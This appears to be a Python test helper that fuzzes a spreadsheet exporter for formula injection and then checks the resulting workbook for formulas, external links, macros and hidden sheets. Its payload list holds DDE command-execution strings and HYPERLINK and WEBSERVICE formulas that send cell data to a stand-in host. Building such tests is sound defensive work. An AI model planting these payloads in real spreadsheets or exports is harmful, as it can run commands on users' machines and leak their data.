"""Texts that a spreadsheet could take for a formula, and a reader that knows nothing of the library that wrote."""

import io
import itertools
import random
import zipfile
from xml.etree import ElementTree

from openpyxl import load_workbook

SIGNS = list("=+-@\t\r\n") + list("＝＋－＠﹦﹢﹣﹫")
BEFORE = ["", " ", "  ", "\u00a0", "\u200b", "\ufeff", "\u2060", "\x00", "\x01", "\u3000", "\u202e", "\u2009"]
AFTER = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://elak.invalid/?"&A1,"Klicka")', 'WEBSERVICE("http://elak.invalid")',
    'DDE("cmd";"/C calc";"x")', 'IMPORTXML("http://elak.invalid";"//a")', "SUM(1+1)*cmd|' /C calc'!A0", "A1",
    "'x'!A1", '"x"', "{1}", "\n=1+1", "INDIRECT(A1)", "[elak.xlsx]Blad1!A1", "1;=2", "1,=2", "</v><f>1+1</f><v>",
    "</t></is></c><c><f>1+1</f></c>", "_xlfn.X()", "x" * 300,
]  # fmt: skip
QUOTED = [
    "'=1+1",
    '"=1+1',
    "x\n=1+1",
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "http://elak.invalid/",
    "\\\\elak\\x",
    "mailto:x@x",
]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
UNSEEN = " \t\r\n\u00a0\u2009\u3000\u200b\u2060\ufeff\u202e"


def formulas(number, seed):
    """That many different texts, or all there are with random endings."""
    every = [*QUOTED, *("".join(parts) for parts in itertools.product(BEFORE, SIGNS, AFTER))]
    chosen = random.Random(seed)  # noqa: S311  the same ones each time
    chosen.shuffle(every)
    while len(every) < number:
        every.append(chosen.choice(BEFORE) + chosen.choice(SIGNS) + str(len(every)) + chosen.choice(AFTER))
    return every[:number]


def taken_for_a_formula(text):
    """As a program that opens the text anew would judge it, once it has passed what it does not show."""
    return text[:1] in ("\t", "\r", "\n") or text.lstrip(UNSEEN)[:1] in SIGNS


def faults_of(data, formulas_of_ours=False):
    """What is wrong with a workbook, as two readers see it."""
    return [*_faults_in_xml(data, formulas_of_ours), *_faults_in_cells(data, formulas_of_ours)]


def _faults_in_xml(data, formulas_of_ours):
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if any(
                word in name.lower() for word in ("external", "vba", "macro", "embed", "activex", "connection", "query")
            ):
                yield f"part {name}"
            if not name.endswith((".xml", ".rels")):
                continue
            for part in ElementTree.fromstring(package.read(name)).iter():  # noqa: S314  of our own making
                if part.get("TargetMode", "").lower() == "external" or part.get("state") in ("hidden", "veryHidden"):
                    yield f"{name}: {part.tag}"
                if part.tag == f"{MAIN}f" and not formulas_of_ours:
                    yield f"formula {part.text}"
                if part.tag in (f"{MAIN}hyperlink", f"{MAIN}definedName", f"{MAIN}ddeLink", f"{MAIN}oleLink"):
                    yield f"{name}: {part.tag}"
                if part.tag == f"{MAIN}f" and "elak" in (part.text or ""):
                    yield f"formula {part.text}"


def _faults_in_cells(data, formulas_of_ours):
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        if sheet.sheet_state != "visible":
            yield f"hidden {sheet.title}"
        for cell in itertools.chain.from_iterable(sheet.iter_rows()):
            if cell.data_type == "f" and not formulas_of_ours:
                yield f"formula {cell.value}"
            if cell.hyperlink or cell.comment:
                yield f"link or comment at {cell.coordinate}"
            if isinstance(cell.value, str) and cell.data_type != "f" and taken_for_a_formula(cell.value):
                yield f"{cell.coordinate}: {cell.value[:30]!r}"
